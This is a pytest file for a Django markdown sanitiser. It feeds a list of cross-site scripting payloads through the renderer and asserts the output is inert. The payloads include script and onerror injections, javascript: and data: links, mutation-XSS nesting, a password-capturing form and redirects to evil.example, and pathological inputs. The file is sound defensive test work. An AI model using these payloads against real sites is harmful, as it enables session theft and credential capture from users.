"""Whatever a member writes comes out inert, and as what it was meant to be."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.template import Context, Template
from prose import conversation, plain_text, to_html

HARMLESS = {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "code", "pre", "a", "h2", "h3", "h4", "hr"}
OF_POSTS = {"table", "thead", "tbody", "tr", "th", "td", "s"}
SCHEMES = {"", "http", "https", "mailto"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password><button>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p id=main name=cookie class=note>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=x><embed src=x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](<java\u0000script:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://e.example/" onmouseover="alert(1))',
    "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "```<script>\nalert(1)\n```",
    '```x" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns:a='x'>",
    "</p></div></main><h1>Not the page's heading</h1>",
    "# One\n## Two\n###### Six",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202eevil\u202c \u0000 \ufeff \ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
]


class Inspector(HTMLParser):
    """Notes every tag, attribute and address a browser would see."""

    def __init__(self, of_a_post):
        super().__init__()
        self.of_a_post = of_a_post
        self.problems = []
        self.tags = []

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        if tag not in HARMLESS and not (self.of_a_post and tag in OF_POSTS):
            self.problems.append(tag)
        for name, value in attributes:
            if self.of_a_post and name == "dir" and value in ("auto", "ltr", "rtl"):
                continue
            if (tag, name) not in {("a", "href"), ("a", "rel"), ("ol", "start")}:
                self.problems.append((tag, name))
            if name == "href" and urlsplit(value.strip().lower()).scheme not in SCHEMES:
                self.problems.append(value)

    def handle_comment(self, data):
        self.problems.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(page, of_a_post=False):
    inspector = Inspector(of_a_post)
    inspector.feed(page)
    inspector.close()
    return inspector


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_inert(text):
    assert inspect(to_html(text)).problems == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_a_post_comes_out_inert(text):
    for written in (text, f"> {text}", f"- {text}", f"|{text}|\n|-|\n|{text}|", f"**{text}**", f"~~{text}~~"):
        assert inspect(conversation(written), of_a_post=True).problems == []


@pytest.mark.parametrize("text", HOSTILE)
def test_words_alone_hold_no_markup_once_they_are_escaped(text):
    shown = Template("{{ text }}").render(Context({"text": plain_text(text)}))
    assert inspect(shown).tags == []


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        ">" * 20_000,
        "* " * 20_000,
        "**a " * 10_000,
        "`" * 20_001,
        "[a](" * 10_000,
        "<" * 20_000,
        "&" * 20_000,
        "https://" * 3_000,
        "@a-" * 8_000,
        "(((https://x.example/" + ")" * 20_000,
        "|" * 20_000 + "\n" + "|-" * 10_000,
    ],
    ids=lambda text: text[:4],
)
def test_pathological_text_is_rendered_all_the_same(text):
    assert inspect(to_html(text)).problems == []
    assert inspect(conversation(text), of_a_post=True).problems == []


def test_markdown_reads_as_it_was_meant():
    text = "# Work\n\nTwenty years of **PCB** lists,\nsee [the guide](https://e.example/?a=1&b=2).\n\n3. one\n4. two"
    assert to_html(text) == (
        "<h3>Work</h3>\n<p>Twenty years of <strong>PCB</strong> lists,<br>\nsee "
        '<a href="https://e.example/?a=1&amp;b=2" rel="nofollow ugc noopener">the guide</a>.</p>\n'
        '<ol start="3">\n<li>one</li>\n<li>two</li>\n</ol>\n'
    )
    assert plain_text(text) == "Work\nTwenty years of PCB lists,\nsee the guide.\none\ntwo"


def test_no_heading_is_left_out_whichever_a_text_begins_with():
    assert to_html("## What the role is\n\n### In short") == "<h3>What the role is</h3>\n<h4>In short</h4>\n"


@pytest.mark.parametrize("words", ["5 < 6 & 7 > 2", "ثنائي الفينيل <متعدد> الكلور", "多氯联苯 & 二噁英", "Ж\u0301 é"])
def test_signs_stay_the_signs_they_are(words):
    assert plain_text(words) == words
    assert "&amp;amp;" not in to_html(words)


def test_templates_have_a_filter():
    assert Template("{% load prose %}{{ text|prose }}").render(Context({"text": "*a* <b>"})) == (
        "<p><em>a</em> &lt;b&gt;</p>\n"
    )
